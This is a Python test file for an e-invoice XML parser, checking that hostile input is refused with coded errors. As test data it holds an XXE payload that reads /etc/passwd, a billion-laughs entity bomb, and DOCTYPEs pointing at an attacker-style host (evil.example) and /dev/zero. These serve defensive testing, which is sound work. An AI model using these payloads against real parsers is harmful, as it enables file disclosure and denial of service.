"""Hostile XML gets a clear, coded refusal: never an expanded entity, a file read or a hang."""

from __future__ import annotations

from pathlib import Path

import pytest

from backoffice.errors import InputRejected
from backoffice.xmlsafe import XmlRejected, parse_xml, read_xml_file
from robots.invoices.einvoice.detect import map_einvoice

CII_NS = "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rsm:CrossIndustryInvoice xmlns:rsm="%s"><x>&xxe;</x></rsm:CrossIndustryInvoice>""" % (
    CII_NS.encode())

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">""" + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
    for i in range(1, 10)) + b"""]><lolz>&lol9;</lolz>"""


def _code(exc: pytest.ExceptionInfo[XmlRejected]) -> str:
    return exc.value.code


def test_xxe_is_refused_without_reading_the_file() -> None:
    with pytest.raises(XmlRejected) as exc:
        parse_xml(XXE)
    assert _code(exc) == "xml_forbidden"
    assert "root:" not in str(exc.value)


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(XmlRejected) as exc:
        parse_xml(LAUGHS)
    assert _code(exc) == "xml_forbidden"


@pytest.mark.parametrize("doctype", ['<!DOCTYPE a>', '<!DOCTYPE a [<!ENTITY e "x">]>',
                                     '<!DOCTYPE a SYSTEM "/dev/zero">'])
def test_doctype_hidden_in_utf16_is_refused_after_parsing(doctype: str) -> None:
    data = f'<?xml version="1.0" encoding="UTF-16"?>{doctype}<a/>'.encode("utf-16")
    with pytest.raises(XmlRejected) as exc:
        parse_xml(data)
    assert _code(exc) == "xml_forbidden"


@pytest.mark.parametrize("doctype", ['<!DOCTYPE Finvoice SYSTEM "Finvoice.dtd">',
                                     '<!DOCTYPE Finvoice SYSTEM "file:///etc/passwd">',
                                     "<!DOCTYPE Finvoice PUBLIC '-//x//EN' 'http://x/f.dtd'>"])
def test_bare_doctype_naming_an_external_dtd_is_read_without_loading_it(doctype: str) -> None:
    """Finvoice 1.x writers put one in; the DTD is never read (not even a local file)."""
    root = parse_xml(f'<?xml version="1.0"?>{doctype}<Finvoice><A>x &amp; y</A>'
                     "</Finvoice>".encode())
    assert root.findtext("A") == "x & y"
    assert "root:" not in "".join(root.itertext())


@pytest.mark.parametrize("data", [
    b'<!DOCTYPE r SYSTEM "http://evil.example/xxe.dtd"><r>&xxe;</r>',  # declared out there
    b'<!DOCTYPE r SYSTEM "f.dtd" [<!ENTITY e "x">]><r>&e;</r>',
    b'<!DOCTYPE r SYSTEM "f.dtd"><!DOCTYPE r SYSTEM "g.dtd"><r/>',
    b'<!DOCTYPE r SYSTEM "f.dtd"><!ENTITY e "x"><r/>',
])
def test_doctype_with_declarations_or_entity_references_is_refused(data: bytes) -> None:
    with pytest.raises(XmlRejected) as exc:
        parse_xml(data)
    assert _code(exc) in ("xml_forbidden", "xml_malformed")


def test_ten_megabyte_file_is_refused_by_its_size(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    with big.open("wb") as fh:
        fh.write(b"<a>")
        fh.write(b"<b>x</b>" * (10_000_000 // 8))
        fh.write(b"</a>")
    with pytest.raises(XmlRejected) as exc:
        read_xml_file(big)
    assert _code(exc) == "xml_too_large"
    assert "10,000,0" in str(exc.value)


def test_size_limit_is_a_parameter() -> None:
    with pytest.raises(XmlRejected) as exc:
        parse_xml(b"<a>" + b"x" * 200 + b"</a>", max_bytes=100)
    assert _code(exc) == "xml_too_large"


@pytest.mark.parametrize("data", [b"<a><b></a>", b"not xml at all", b"<a>&undefined;</a>",
                                  b"\xff\xfe\x00<"])
def test_malformed_xml_is_refused(data: bytes) -> None:
    with pytest.raises(XmlRejected) as exc:
        parse_xml(data)
    assert _code(exc) == "xml_malformed"


def test_empty_xml_is_refused() -> None:
    with pytest.raises(XmlRejected) as exc:
        parse_xml(b"  \n")
    assert _code(exc) == "xml_empty"


def test_unknown_root_is_refused_by_the_registry() -> None:
    root = parse_xml(b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>')
    with pytest.raises(XmlRejected) as exc:
        map_einvoice(root, "statement.xml")
    assert _code(exc) == "xml_unknown"
    assert "Document" in str(exc.value)


def test_refusals_are_business_input_rejections() -> None:
    assert issubclass(XmlRejected, InputRejected)
